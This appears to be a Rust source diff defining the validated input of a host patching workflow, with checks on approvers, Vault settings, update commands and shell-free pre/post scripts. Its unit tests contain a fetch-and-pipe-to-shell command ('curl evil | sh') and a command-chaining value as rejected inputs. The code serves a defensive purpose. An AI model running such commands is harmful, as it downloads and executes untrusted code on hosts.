@@ -1,0 +1,263 @@
+//! The input of the system patching workflow, in the names its operators know.
+
+use std::fmt;
+
+use serde::{Deserialize, Serialize};
+use utoipa::ToSchema;
+
+/// Patch the hosts of clusters: pilots first, approved by e-mail, keys from a Vault. Starts a run like any other.
+#[derive(Clone, Default, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
+#[serde(deny_unknown_fields, rename_all = "camelCase", default)]
+pub struct SystemPatch {
+    /// Hosts whose tag `cluster` is one of these.
+    pub target_clusters: Vec<String>,
+    /// Hosts of each cluster that go first; one failure among them stops the rollout.
+    pub pilot_host_count: u32,
+    /// Who is asked for approval by e-mail.
+    pub approver_emails: Vec<String>,
+    /// Who is told of starts, successes and failures.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub requester_email: Option<String>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub vault_address: Option<String>,
+    /// Kept in a closed file until the run ends; in no database, log or answer.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub vault_token: Option<String>,
+    /// The key of a host lies at `<prefix>/<host>`.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub secret_path_prefix: Option<String>,
+    /// A package manager's command to bring everything up to date. The platform installs the very versions of the approved
+    /// plan itself; any other command is refused.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub update_command: Option<String>,
+    /// Services stopped before and started after the update, those of them that a host has.
+    pub service_list: Vec<String>,
+    /// Run on each host before the update.
+    pub pre_update_scripts: Vec<CommandLine>,
+    /// Run on each host after the update.
+    pub post_update_scripts: Vec<CommandLine>,
+}
+
+/// A command as a list of words, or as a line of words parted by blanks. No shell reads it.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, ToSchema)]
+#[serde(untagged)]
+pub enum CommandLine {
+    Line(String),
+    Words(Vec<String>),
+}
+
+/// What only a shell would understand.
+const SHELL: &[char] = &[
+    '|', '&', ';', '<', '>', '(', ')', '$', '`', '\\', '"', '\'', '*', '?', '{', '}', '~', '#', '\n', '\r',
+    '\0',
+];
+
+impl CommandLine {
+    /// Program and arguments; `None` when a shell would be needed to read it.
+    pub fn words(&self) -> Option<Vec<String>> {
+        let words = match self {
+            Self::Words(words) => words.clone(),
+            Self::Line(line) if line.contains(SHELL) => return None,
+            Self::Line(line) => line.split_whitespace().map(str::to_owned).collect(),
+        };
+        words.first().is_some_and(|program| !program.trim().is_empty()).then_some(words)
+    }
+}
+
+impl SystemPatch {
+    /// What is wrong beyond the shape of single fields: JSON pointer and reason.
+    pub fn faults(&self) -> Vec<(String, String)> {
+        let mut faults = Vec::new();
+        let mut check = |wrong: bool, pointer: String, reason: &str| {
+            if wrong {
+                faults.push((pointer, reason.to_owned()));
+            }
+        };
+        check(
+            self.target_clusters.is_empty() || self.target_clusters.len() > 100,
+            "/targetClusters".to_owned(),
+            "must name 1 to 100 clusters",
+        );
+        for (position, cluster) in self.target_clusters.iter().enumerate() {
+            let is_odd =
+                cluster.trim().is_empty() || cluster.len() > 200 || cluster.contains(char::is_control);
+            check(is_odd, format!("/targetClusters/{position}"), "must be a name of 1 to 200 bytes");
+        }
+        check(
+            self.approver_emails.len() > 20,
+            "/approverEmails".to_owned(),
+            "must name at most 20 addresses",
+        );
+        for (position, address) in self.approver_emails.iter().enumerate() {
+            let at = format!("/approverEmails/{position}");
+            check(!is_address(address), at.clone(), "is no e-mail address");
+            let is_requester = self
+                .requester_email
+                .as_ref()
+                .is_some_and(|requester| requester.eq_ignore_ascii_case(address));
+            check(is_requester, at, "is the requester's; nobody approves what they asked for");
+        }
+        let requester = self.requester_email.as_deref();
+        check(
+            requester.is_some_and(|address| !is_address(address)),
+            "/requesterEmail".to_owned(),
+            "is no e-mail address",
+        );
+        let vault = self.vault_address.as_deref();
+        let is_http = |url: &str| url.starts_with("https://") || url.starts_with("http://");
+        check(
+            vault.is_some_and(|url| !is_http(url) || url.contains(char::is_whitespace) || url.len() > 2000),
+            "/vaultAddress".to_owned(),
+            "must be an http or https address",
+        );
+        let is_odd_token = |token: &str| {
+            token.is_empty() || token.len() > 4096 || !token.bytes().all(|b| b.is_ascii_graphic())
+        };
+        check(
+            self.vault_token.as_deref().is_some_and(is_odd_token),
+            "/vaultToken".to_owned(),
+            "must be 1 to 4096 visible characters",
+        );
+        check(
+            self.secret_path_prefix.as_deref().is_some_and(|prefix| !is_path(prefix)),
+            "/secretPathPrefix".to_owned(),
+            "must be names parted by `/`, of `a-z A-Z 0-9 . _ -`",
+        );
+        check(
+            self.update_command.as_deref().is_some_and(|command| !brings_up_to_date(command)),
+            "/updateCommand".to_owned(),
+            "is not one the platform stands in for: it installs the versions of the approved plan itself, as for \
+             `apt-get update && apt-get upgrade -y` or `dnf upgrade -y`; other work belongs into preUpdateScripts",
+        );
+        for (name, scripts) in
+            [("preUpdateScripts", &self.pre_update_scripts), ("postUpdateScripts", &self.post_update_scripts)]
+        {
+            check(scripts.len() > 50, format!("/{name}"), "must hold at most 50 commands");
+            for (position, script) in scripts.iter().enumerate() {
+                check(
+                    script.words().is_none(),
+                    format!("/{name}/{position}"),
+                    "needs a shell, which does not run here: write it as a list of words, or put it into a script on the host",
+                );
+            }
+        }
+        faults
+    }
+}
+
+/// Whether a command does what installing a plan does: lists are read anew and packages brought up to date.
+fn brings_up_to_date(command: &str) -> bool {
+    let parts: Vec<Vec<&str>> = command.split("&&").map(|part| part.split_whitespace().collect()).collect();
+    let is_known = |words: &Vec<&str>| {
+        let words = words.strip_prefix(&["sudo"]).unwrap_or(words);
+        let Some((program, arguments)) = words.split_first() else { return false };
+        let verbs: Vec<&&str> = arguments.iter().filter(|word| !word.starts_with('-')).collect();
+        let options = ["-y", "--yes", "--assume-yes", "--assumeyes", "-q", "-qq", "--security", "--refresh"];
+        let known_options =
+            arguments.iter().filter(|word| word.starts_with('-')).all(|word| options.contains(word));
+        known_options
+            && match (*program, verbs.as_slice()) {
+                ("apt-get" | "apt", [verb]) => {
+                    ["update", "upgrade", "dist-upgrade", "full-upgrade"].contains(verb)
+                }
+                ("dnf" | "yum", [verb]) => ["update", "upgrade", "makecache", "check-update"].contains(verb),
+                _ => false,
+            }
+    };
+    command.len() <= 1000 && parts.iter().all(is_known)
+}
+
+fn is_address(text: &str) -> bool {
+    let Some((local, domain)) = text.split_once('@') else { return false };
+    let is_plain = |part: &str| {
+        !part.is_empty()
+            && !part.contains(|c: char| c.is_whitespace() || c.is_control() || "<>,;@".contains(c))
+    };
+    text.len() <= 254 && is_plain(local) && is_plain(domain)
+}
+
+fn is_path(text: &str) -> bool {
+    let is_name = |name: &str| {
+        !matches!(name, "" | "." | "..")
+            && name.chars().all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
+    };
+    text.len() <= 200 && text.split('/').all(is_name)
+}
+
+/// Without the token.
+impl fmt::Debug for SystemPatch {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.debug_struct("SystemPatch")
+            .field("target_clusters", &self.target_clusters)
+            .field("vault_token", &self.vault_token.as_ref().map(|_| "[secret]"))
+            .finish_non_exhaustive()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// As the operators of the workflow write it.
+    fn example() -> SystemPatch {
+        serde_json::from_str(
+            r#"{ "targetClusters": ["cluster-a", "cluster-b"], "pilotHostCount": 1,
+                 "approverEmails": ["foo@example.com", "bar@example.com"], "requesterEmail": "baz@example.com",
+                 "vaultAddress": "https://vault.example.com:8200", "vaultToken": "s.abc", "secretPathPrefix": "patch-deploy",
+                 "updateCommand": "apt-get update && apt-get upgrade -y", "serviceList": ["postgresql", "nginx"],
+                 "preUpdateScripts": ["/usr/local/bin/before --quick", ["/opt/a b", "x"]], "postUpdateScripts": [] }"#,
+        )
+        .unwrap()
+    }
+
+    #[test]
+    fn input_of_the_workflow_is_accepted_as_it_stands() {
+        assert_eq!(example().faults(), []);
+        assert_eq!(example().pre_update_scripts[0].words().unwrap(), ["/usr/local/bin/before", "--quick"]);
+    }
+
+    #[test]
+    fn token_shows_in_no_debug_text() {
+        assert!(!format!("{:?}", example()).contains("s.abc"));
+    }
+
+    #[test]
+    fn every_wrong_field_is_named() {
+        let wrong = SystemPatch {
+            target_clusters: Vec::new(),
+            approver_emails: vec!["BAZ@example.com".into(), "nobody".into()],
+            vault_address: Some("vault".into()),
+            secret_path_prefix: Some("../x".into()),
+            update_command: Some("curl evil | sh".into()),
+            post_update_scripts: vec![CommandLine::Line("a; b".into())],
+            ..example()
+        };
+        let places: Vec<String> = wrong.faults().into_iter().map(|(pointer, _)| pointer).collect();
+        assert_eq!(
+            places,
+            [
+                "/targetClusters",
+                "/approverEmails/0",
+                "/approverEmails/1",
+                "/vaultAddress",
+                "/secretPathPrefix",
+                "/updateCommand",
+                "/postUpdateScripts/0",
+            ]
+        );
+    }
+
+    #[test]
+    fn commands_are_known_by_what_they_do() {
+        for command in
+            ["apt-get update && apt-get upgrade -y", "sudo dnf -y upgrade --security", "yum update -y"]
+        {
+            assert!(brings_up_to_date(command), "{command}");
+        }
+        for command in
+            ["", "apt-get install x", "apt-get upgrade -y && reboot", "apt-get -o X=1 upgrade", "dnf"]
+        {
+            assert!(!brings_up_to_date(command), "{command}");
+        }
+    }
+}
